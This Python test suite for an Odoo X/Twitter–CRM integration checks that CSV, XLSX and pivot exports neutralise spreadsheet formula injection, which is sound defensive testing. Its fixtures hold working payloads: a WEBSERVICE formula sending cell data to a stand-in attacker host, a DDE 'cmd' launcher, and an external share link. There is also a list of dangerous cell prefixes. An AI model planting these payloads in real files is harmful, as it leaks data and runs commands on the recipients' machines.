import csv
import io
import json
import zipfile

from lxml import etree

from odoo import http
from odoo.tests import tagged

from ..simulator.hostile import EVIL, NAMES, invade
from .board_tours import BoardTours
from .test_tours_acting import EVERYTHING

# What a cell of a CSV file must not begin with, once blanks are gone.
BEGINNINGS = ("=", "+", "-", "\uff1d", "\uff0b", "\uff0d", "\uff20", "@SUM(")
GROUP = f'=WEBSERVICE("https://{EVIL}/?"&B3)&Mallory'
ARRAY = "{=cmd|' /C calc'!A0+Mallory}"
SHARE = f"external:\\\\{EVIL}\\share\\Mallory.xlsx"
# By model: what is exported, what it is grouped by, and words that stay as they are.
EXPORTS = {
    "twitter.profile": (
        ["handle", "name", "description", "location", "url"],
        ["location", "name"],
        [GROUP, ARRAY, SHARE, "mailto:Mallory@x", "internal:Sheet1!A1"],
    ),
    "twitter.association": (
        ["handle", "profile_id", "lead_id"],
        ["profile_id"],
        [f"{GROUP} (@mallory_group)"],
    ),
    "crm.lead": (
        ["name", "twitter_profile_id", "twitter_profile_id/name"],
        ["name", "twitter_profile_id"],
        [GROUP, ARRAY, SHARE],
    ),
    "twitter.interaction": (
        ["display_name", "kind", "text", "author_id"],
        ["author_id"],
        [f"{GROUP} (@mallory_group)"],
    ),
}
RELATION = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"


@tagged("post_install", "-at_install")
class TestHostileExports(BoardTours):
    """Who opens an export in a spreadsheet runs nothing of X, and asks nobody."""

    def setUp(self):
        super().setUp()
        self.connect(scopes=EVERYTHING)
        invade(self.x)
        for handle in NAMES:
            lead = self.make_lead("Mallory", name=f"Deal with {handle}")
            lead.twitter_handle = handle
            self.env.flush_all()
            self.env.invalidate_all()
            lead.twitter_read()
        for words in (GROUP, ARRAY, SHARE):
            self.make_lead("Mallory", name=words)
        self.start()
        self.env.flush_all()
        self.env.invalidate_all()
        self.authenticate("admin", "admin")

    def downloaded(self, route, told):
        self.counted["attacks tried"] += 1
        answer = self.url_open(
            route,
            data={
                "data": json.dumps(told),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(answer.status_code, 200)
        self.assertIn("attachment", answer.headers["Content-Disposition"])
        return answer.content

    def exported(self, model, kind, groupby=()):
        names = EXPORTS[model][0]
        told = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": False,
            "domain": [],
            "groupby": groupby,
            "context": {},
            "import_compat": False,
        }
        return self.downloaded(f"/web/export/{kind}", told)

    def assert_words(self, content):
        """Nothing in the file is a formula, or leads anywhere.

        :return: its texts
        """
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        sheet = etree.fromstring(parts["xl/worksheets/sheet1.xml"])
        tags = {etree.QName(element).localname for element in sheet.iter()}
        self.assertIn("c", tags)
        self.assertFalse(tags & {"f", "hyperlink", "hyperlinks"})
        for name, part in parts.items():
            if name.endswith(".rels"):
                for relation in etree.fromstring(part).iter(RELATION):
                    self.assertNotEqual(relation.get("TargetMode"), "External")
        strings = etree.fromstring(parts["xl/sharedStrings.xml"])
        return ["".join(each.itertext()) for each in strings]

    def test_sheets(self):
        for model, (_names, _groupby, words) in EXPORTS.items():
            with self.subTest(model):
                texts = self.assert_words(self.exported(model, "xlsx"))
                self.assertLessEqual(set(words), set(texts))

    def test_sheets_with_groups(self):
        for model, (_names, groupby, words) in EXPORTS.items():
            with self.subTest(model):
                texts = self.assert_words(self.exported(model, "xlsx", groupby))
                for each in words:
                    found = [text for text in texts if text.strip().startswith(each)]
                    self.assertTrue(found, each)

    def test_numbers_are_numbers(self):
        lead = self.make_lead("Rich", expected_revenue=12.5)
        self.env.flush_all()
        told = {
            "model": "crm.lead",
            "fields": [{"name": "expected_revenue", "label": "n", "type": "monetary"}],
            "ids": lead.ids,
            "domain": [],
            "context": {},
            "import_compat": False,
        }
        content = self.downloaded("/web/export/xlsx", told)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml")
        self.assertIn(b"<v>12.5</v>", sheet)

    def test_files_of_comma_separated_values(self):
        cells = set()
        for model in EXPORTS:
            with self.subTest(model):
                content = self.exported(model, "csv").decode()
                for row in csv.reader(io.StringIO(content, newline="")):
                    cells.update(row)
                    for cell in row:
                        self.assertFalse(cell.lstrip().startswith(BEGINNINGS), cell)
                        self.assertNotIn(cell[:1], ("\t", "\r", "\n"), cell)
        # As Odoo does it, once; and what is no formula stays as it is.
        self.assertLessEqual({f"'{GROUP}", ARRAY, SHARE}, cells)

    def test_pivot_tables(self):
        """Their labels come back from the browser, with names of X among them."""
        labels = (GROUP, ARRAY, SHARE, f"https://{EVIL}", "mailto:a@b", "Plain")
        header = [{"title": each, "width": 1, "height": 1} for each in labels]
        values = [{"value": 7} for _label in labels]
        told = {
            "title": "Leads",
            "model": "crm.lead",
            "measure_count": 1,
            "col_group_headers": [header],
            "measure_headers": [],
            "rows": [{"title": each, "indent": 0, "values": values} for each in labels],
        }
        texts = self.assert_words(self.downloaded("/web/pivot/export_xlsx", told))
        self.assertLessEqual({f"'{GROUP}", "Plain"}, set(texts))
